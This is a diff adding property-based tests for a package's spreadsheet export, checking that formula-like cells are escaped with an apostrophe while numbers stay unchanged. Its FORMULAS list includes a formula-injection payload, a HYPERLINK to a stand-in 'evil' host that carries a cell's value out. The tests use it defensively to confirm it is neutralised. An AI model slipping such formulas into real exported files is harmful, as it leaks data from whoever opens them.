@@ -1,12 +1,18 @@
 """Escaping: any text is printed and never obeyed."""
 
+import csv
+import io
 import re
+import tempfile
 import unicodedata
+from pathlib import Path
 
+import pandas as pd
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from kglm.paper.text import latex, markdown, one_line, shorten
+import kglm
+from kglm.paper.text import defused, latex, markdown, one_line, read_spreadsheet, shorten, spreadsheet
 
 NASTY = r"\input{x} & 50 % of $x_{1}^2$ #1 ~ <b>|</b> --- ''`` [] * \\[2pt]" + " é İ ł ß λ Ω 中 😀 \u202e\u0301"
 # What LaTeX makes of a character that is escaped; without it nothing of TeX's syntax may be left.
@@ -72,3 +78,32 @@ def test_shorten_keeps_both_ends(text, length):
         first, last = short.split(" […] ")[0], short.split(" […] ")[-1]
         assert whole.startswith(first)
         assert whole.endswith(last)
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-x", "=", "'=1"]
+NUMBERS = ["-0.03", "+17.6", "1e-3", "-inf", "−0.398", "", "a=b", "1-2", "'quoted'", "it's"]
+
+
+def test_formulas_are_defused_and_numbers_stay():
+    assert [defused(cell) for cell in FORMULAS[:-1]] == [f"'{cell}" for cell in FORMULAS[:-1]]
+    assert [defused(cell) for cell in [*NUMBERS, 0.5, None]] == [*NUMBERS, 0.5, None]
+
+
+@given(st.lists(st.text(st.characters(blacklist_categories=["Cs", "Cc"])), min_size=1, max_size=4))
+@example([formula for formula in FORMULAS if "\r" not in formula])
+@example(["''=1", "'"])
+def test_what_is_written_for_spreadsheets_holds_no_formula_and_is_read_as_it_was(cells):
+    cells = [cell for cell in cells if not re.match(r"'+[=+\-@]", cell)]  # one apostrophe is ours
+    frame = pd.DataFrame({"=name": cells, "other": range(len(cells))})
+    text = spreadsheet(frame)
+    for row in csv.reader(io.StringIO(text)):
+        assert all(defused(cell) == cell for cell in row)
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "t.csv"
+        path.write_text(text, "utf-8", newline="")
+        pd.testing.assert_frame_equal(read_spreadsheet(path), frame.astype(str))
+
+
+def test_no_table_is_written_past_the_one_function():
+    sources = [path for path in Path(kglm.__file__).parent.rglob("*.py") if "to_csv" in path.read_text("utf-8")]
+    assert [path.name for path in sources] == ["text.py"]
